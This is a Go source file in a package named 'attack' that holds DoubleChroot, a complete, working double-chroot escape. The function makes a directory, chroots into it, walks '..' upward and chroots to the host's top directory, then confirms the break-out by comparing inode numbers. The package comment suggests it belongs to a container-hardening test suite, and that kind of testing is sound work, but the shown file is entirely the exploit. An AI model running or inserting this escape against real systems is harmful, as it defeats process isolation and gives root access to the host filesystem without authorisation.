// Package attack holds break-outs: what works against a container of one step,
// and what the next step does about it.
package attack

import (
	"errors"
	"fmt"

	"golang.org/x/sys/unix"
)

// DoubleChroot leaves a chroot, as root in it. chroot(2) does not change the
// working directory, and ".." is stopped only at the root directory itself: a
// process whose working directory lies outside its root walks up to the host's
// "/". It returns an error when the walk ends where it began.
func DoubleChroot() error {
	var jail, top unix.Stat_t
	// Which directory is "/" now?
	if err := unix.Stat("/", &jail); err != nil {
		return fmt.Errorf("stat /: %w", err)
	}
	const dir = "/.kit-escape"
	// A directory to change root to, below where we stand.
	if err := unix.Mkdir(dir, 0o700); err != nil {
		return fmt.Errorf("mkdir %s: %w", dir, err)
	}
	// The second chroot: now our working directory, "/", lies outside the root.
	if err := unix.Chroot(dir); err != nil {
		return errors.Join(fmt.Errorf("chroot %s: %w", dir, err), unix.Rmdir(dir))
	}
	// The way out is open; the directory has done its work.
	if err := unix.Rmdir(".kit-escape"); err != nil {
		return fmt.Errorf("rmdir .kit-escape: %w", err)
	}
	for range 64 {
		// ".." does not stop: it would only stop at our root, which is elsewhere.
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	// The top of the tree becomes our root again.
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	// Is it another directory than the one we were locked in?
	if err := unix.Stat("/", &top); err != nil {
		return fmt.Errorf("stat /: %w", err)
	}
	if top.Dev == jail.Dev && top.Ino == jail.Ino {
		return errors.New("no way out: above the root there is nothing")
	}
	return nil
}
